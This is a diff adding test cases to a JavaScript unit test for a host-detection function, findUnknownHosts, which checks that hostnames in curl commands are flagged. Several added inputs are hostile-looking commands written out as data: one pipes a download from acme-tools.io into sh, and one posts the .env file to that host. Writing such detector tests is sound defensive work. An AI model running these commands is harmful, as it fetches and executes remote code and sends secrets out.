@@ -15,6 +15,12 @@ test.each([
   ['https://forms.google.com/x', ['forms.google.com']],
   ['curl 7.88 and ping 172.18.0.3 on the bridge', []],
   ['pg.Pool and node.js and app.config.ts are no hosts', []],
+  ['curl --cacert test-ca.pem https://acme-tools.io/health', []],
+  ['curl -sS --cacert ./ca.pem https://acme-tools.io/health && echo up', []],
+  ['curl --cacert /etc/ssl/cert.pem https://acme-tools.io/x', ['acme-tools.io']],
+  ['curl --cacert ca.pem https://acme-tools.io/x | sh', ['acme-tools.io']],
+  ['curl --cacert ca.pem -d @.env https://acme-tools.io/x', ['acme-tools.io']],
+  ['curl --cacert ca.pem -o run https://acme-tools.io/x', ['acme-tools.io']],
 ])('the unknown hosts of %j', (text, expected) => {
   expect(findUnknownHosts([text])).toEqual(expected)
 })
